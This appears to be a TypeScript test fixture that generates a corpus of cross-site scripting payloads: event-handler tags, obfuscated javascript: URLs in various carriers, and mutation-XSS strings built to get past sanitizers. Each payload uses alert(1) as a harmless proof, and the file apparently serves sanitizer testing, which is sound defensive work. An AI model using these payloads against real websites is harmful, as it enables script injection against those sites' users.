const ALERT = 'alert(1)';

const TAGS = [
  'img',
  'svg',
  'video',
  'audio',
  'iframe',
  'details',
  'body',
  'a',
  'p',
  'input',
  'button',
  'marquee',
  'object',
  'embed',
  'math',
  'table',
  'select',
  'textarea',
  'x-y',
  'style',
];
const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onpointerenter',
  'onanimationstart',
  'onbeforetoggle',
  'oncontentvisibilityautostatechange',
  'ontransitionend',
  'onscrollend',
  'onwheel',
  'onbegin',
  'onstart',
  'onfinish',
  'onplay',
  'OnErRoR',
  'onpageshow',
  'onhashchange',
];

const handlers = TAGS.flatMap((tag) =>
  HANDLERS.map((handler) => `<${tag} src=x href=x open autofocus ${handler}=${ALERT}>x</${tag}>`),
);

const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java\nscript:',
  '&#106;avascript:',
  'javascript&colon;',
  '\u0001javascript:',
  'vbscript:',
  'data:text/html,<script>alert(1)</script>',
];
const CARRIERS: readonly ((url: string) => string)[] = [
  (url) => `<a href="${url}${ALERT}">x</a>`,
  (url) => `<a xlink:href="${url}${ALERT}">x</a>`,
  (url) => `<iframe src="${url}${ALERT}"></iframe>`,
  (url) => `<form action="${url}${ALERT}"><button>x</button></form>`,
  (url) => `<button formaction="${url}${ALERT}">x</button>`,
  (url) => `<object data="${url}${ALERT}"></object>`,
  (url) => `<svg><a xlink:href="${url}${ALERT}"><text>x</text></a></svg>`,
  (url) => `<math href="${url}${ALERT}">x</math>`,
  (url) => `<base href="${url}${ALERT}">`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}${ALERT}">`,
];
const schemes = SCHEMES.flatMap((scheme) => CARRIERS.map((carry) => carry(scheme)));

/** Markup that changes its meaning between two parses, and truncated markup. */
const MUTATIONS = [
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg><foreignobject><iframe srcdoc="<script>alert(1)</script>">',
  '<template><script>alert(1)</script></template>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<script>alert(1)//',
  '<<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=onload to=alert(1)>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x">',
  '<a href="https://a.example" target=x onclick=alert(1) style="animation:x">x</a>',
  '<p id=cookie name=cookie>clobber</p><form id=a><input name=attributes></form>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>@import "javascript:alert(1)";</style>',
  '<link rel=stylesheet href="data:,*{x:expression(alert(1))}">',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<title><a href="</title><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<select><template><img src=x onerror=alert(1)></template></select>',
  '<table><td background="javascript:alert(1)">x',
  '<isindex type=image src=1 onerror=alert(1)>',
];

/** 400 event handlers, 100 script URLs, and mutating markup. All of it is our own. */
export const XSS_PAYLOADS: readonly string[] = [...handlers, ...schemes, ...MUTATIONS];
